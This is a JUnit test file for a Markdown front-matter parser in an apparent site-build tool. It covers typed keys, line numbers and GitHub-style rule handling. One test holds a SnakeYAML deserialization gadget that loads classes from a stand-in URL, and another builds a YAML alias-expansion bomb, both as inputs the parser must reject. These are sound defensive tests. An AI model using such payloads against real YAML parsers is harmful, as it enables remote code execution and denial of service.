package dev.sd101.content;

import dev.sd101.BuildException;
import dev.sd101.markdown.Document;
import dev.sd101.markdown.MarkdownParser;
import org.junit.jupiter.api.Test;

import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class FrontMatterTest {
    private static final String GUIDE = "---\r\ntitle: \"A guide\"\r\ncreatedAt: 2024-02-28\r\ndraft: true\r\n"
            + "tags:\r\n  - One\r\n  - 'Two'\r\nextra:\r\n  level: 3\r\n---\r\n\r\n## First\r\n\r\n[x](#nowhere)\r\n";

    @Test
    void knownKeysAreTypedAndOthersKept() {
        FrontMatter fm = FrontMatter.parse(GUIDE, "g.md");
        assertEquals("A guide", fm.title());
        assertEquals("2024-02-28T00:00Z", fm.date().toString());
        assertTrue(fm.draft());
        assertEquals(List.of(new FrontMatter.Named("One", 6), new FrontMatter.Named("Two", 7)), fm.terms("tags"));
        assertEquals(Map.of("level", 3), fm.params().get("extra"));
        assertEquals(List.of(), fm.terms("categories"));
    }

    @Test
    void theMarkdownKeepsTheFilesLinesAndOffsets() {
        FrontMatter fm = FrontMatter.parse(GUIDE, "g.md");
        Source source = new Source(Path.of("/x/g.md").toAbsolutePath(), "g.md", "g.md", GUIDE, fm);
        assertEquals(GUIDE.length(), source.markdown().length());
        Document doc = new MarkdownParser().parse(source);
        assertEquals(12, doc.headings().get(0).line());
        assertEquals("first", doc.headings().get(0).id());
        assertEquals(14, doc.links().get(0).line());
        assertFalse(new MarkdownParser().render(doc).contains("A guide"), "front matter is not rendered");
    }

    @Test
    void aFileWithoutFrontMatterIsUntouched() {
        FrontMatter fm = FrontMatter.parse("# Title\n\n---\n\ntext\n", "a.md");
        assertFalse(fm.present());
        assertNull(fm.title());
        assertFalse(FrontMatter.parse("---\n\nA thematic break first.\n", "a.md").present());
    }

    @Test
    void yamlTagsCannotInstantiateClasses() {
        BuildException e = assertThrows(BuildException.class, () -> FrontMatter.parse(
                "---\nx: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://a/\"]]]]\n---\n", "evil.md"));
        assertTrue(e.getMessage().startsWith("evil.md:2: "), e.getMessage());
    }

    @Test
    void aliasBombsAreRefused() {
        StringBuilder yaml = new StringBuilder("---\na: &a [x, x, x, x, x, x, x, x, x]\n");
        String prev = "a";
        for (int i = 0; i < 30; i++) {
            yaml.append("b").append(i).append(": &b").append(i).append(" [*").append(prev).append(", *").append(prev).append("]\n");
            prev = "b" + i;
        }
        yaml.append("---\n");
        assertThrows(BuildException.class, () -> FrontMatter.parse(yaml.toString(), "bomb.md"));
    }

    @Test
    void wrongTypesNameKeyExpectedTypeAndLine() {
        BuildException e = assertThrows(BuildException.class, () -> FrontMatter.parse("---\ntitle: ok\ndraft: perhaps\n---\n", "d.md"));
        assertEquals("d.md:3: draft: expected true or false, found text", e.getMessage());
        e = assertThrows(BuildException.class, () -> FrontMatter.parse("---\ntitle: ok\ntitle: again\n---\n", "d.md"));
        assertTrue(e.getMessage().startsWith("d.md:3: "), e.getMessage());
    }

    @Test
    void linesBetweenRulesWithoutAKeyAreMarkdownAsOnGitHub() {
        // GitHub shows a rule, a heading "Foo" (setext) and so on: no YAML mapping, so no front matter.
        assertFalse(FrontMatter.parse("---\nFoo\n---\nBar\n---\nBaz\n", "r.md").present());
        assertFalse(FrontMatter.parse("---\n---\n", "r.md").present());
        assertFalse(FrontMatter.parse("---\nA sentence: with a colon inside\n  indented: too\n", "r.md").present());
        // A key makes it front matter, with its errors named by line.
        assertTrue(FrontMatter.parse("---\ntitle: T\n---\n", "r.md").present());
        BuildException e = assertThrows(BuildException.class, () -> FrontMatter.parse("---\n[a, b]: c\n---\n", "r.md"));
        assertTrue(e.getMessage().startsWith("r.md:2: "), e.getMessage());
    }
}
